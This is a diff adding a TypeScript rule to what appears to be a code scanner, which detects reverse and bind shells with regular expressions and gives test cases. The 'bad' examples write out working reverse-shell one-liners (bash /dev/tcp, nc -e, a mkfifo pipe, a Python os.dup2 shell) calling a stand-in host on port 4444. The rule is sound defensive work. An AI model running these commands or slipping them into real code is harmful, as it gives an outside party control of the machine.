@@ -1,0 +1,60 @@
+import type { Check } from '../../check.ts';
+
+/** Each form hands a shell to whoever is at the other end of a socket. */
+const FORMS: readonly RegExp[] = [
+  /\b(?:ba|z|k|da)?sh\s+-i\s{0,3}[0-9]{0,2}[<>]&?\s{0,3}\/dev\/(?:tcp|udp)\/[^\s'"`;]{1,100}/g,
+  /\bexec\s+\d{1,3}<>\s?\/dev\/(?:tcp|udp)\/[^\s'"`;]{1,100}/g,
+  /\b(?:nc|ncat|netcat)\b[^\n|;&'"]{0,80}\s(?:-[a-z]{0,4}[ec]|--exec|--sh-exec)\s{1,3}["']?(?:\/(?:usr\/)?bin\/)?(?:ba|z)?(?:sh|cmd(?:\.exe)?|powershell)\b/g,
+  /\bmkfifo\s[^\n]{1,120}\|\s{0,3}(?:\/bin\/)?(?:ba|z)?sh\b[^\n]{0,60}\|\s{0,3}(?:nc|ncat|netcat|openssl s_client)\b/g,
+  /\bsocat\b[^\n]{0,120}\bexec:["']?[^\s,'"]{0,30}sh\b/gi,
+  /\bos\.dup2\(\s{0,3}\w{1,40}\.fileno\(\)\s{0,3},\s{0,3}[012]\s{0,3}\)/g,
+];
+
+export const check: Check = {
+  id: 'rce-reverse-shell',
+  title: 'Reverse or bind shell',
+  severity: 'critical',
+  kind: 'malice',
+  confidence: 'high',
+  since: '0.1.0',
+  cwe: [506],
+  why: `
+    The code connects a shell to a network socket: somebody elsewhere gets to type commands on the machine that runs it.
+    Honest software has next to no use for it.`,
+  fix: `
+    Remove the code and treat every machine that ran it as taken over.
+    Where a remote console is meant, use one that authenticates, such as SSH.`,
+  blindSpots: 'A shell that is built from parts at run time is not recognised by its text.',
+  wants: { keywords: ['/dev/tcp/', '/dev/udp/', 'nc ', 'ncat ', 'netcat ', 'mkfifo ', 'socat ', '.dup2('] },
+  examples: {
+    bad: [
+      { 'setup.sh': '«bash -i >& /dev/tcp/203.0.113.7/4444» 0>&1' },
+      { 'install.py': 'os.system("«nc 203.0.113.7 4444 -e /bin/sh»")' },
+      { 'run.sh': 'rm -f /tmp/f; «mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc» 203.0.113.7 4444 > /tmp/f' },
+      {
+        'agent.py': `
+          s = socket.socket(); s.connect((host, port))
+          «os.dup2(s.fileno(), 0)»
+          subprocess.call(["/bin/sh", "-i"])`,
+      },
+    ],
+    good: [
+      { 'wait.sh': 'until nc -z localhost 5432; do sleep 1; done' },
+      { 'probe.sh': '(echo > /dev/tcp/localhost/80) && echo open' },
+      { 'daemon.py': 'os.dup2(devnull.fileno(), sys.stdout.fileno())' },
+    ],
+  },
+
+  *find({ windows }) {
+    for (const window of windows) {
+      for (const form of FORMS) {
+        for (const match of window.text.matchAll(form)) {
+          yield {
+            at: window.span(match.index, match.index + match[0].length),
+            message: 'A shell is connected to a network socket.',
+          };
+        }
+      }
+    }
+  },
+};
